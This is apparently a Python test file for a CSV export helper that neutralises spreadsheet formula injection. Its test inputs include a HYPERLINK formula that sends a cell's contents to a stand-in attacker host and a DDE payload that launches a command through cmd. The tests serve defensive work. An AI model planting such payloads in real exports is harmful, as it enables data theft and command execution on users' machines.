"""CSV cells that a spreadsheet would run as a formula are neutralised (OWASP CSV injection):
one helper, used by every export."""

from __future__ import annotations

import csv
import io

import pytest

from governance.csv_export import CsvRowWriter, neutralise


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", '=HYPERLINK("https://evil.example/?"&A1,"open")'],
)
def test_a_cell_that_starts_a_formula_is_prefixed_with_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Notes bot", "", "a=b", "1-2", 42, -3, 1.5, True, None])
def test_other_cells_are_left_alone(cell: object) -> None:
    assert neutralise(cell) == cell


def test_the_writer_neutralises_every_cell_and_keeps_csv_quoting() -> None:
    line = CsvRowWriter().writerow(["=cmd|' /C calc'!A0", 'say "hi", then =1', -1])
    assert next(csv.reader(io.StringIO(line))) == ["'=cmd|' /C calc'!A0", 'say "hi", then =1', "-1"]
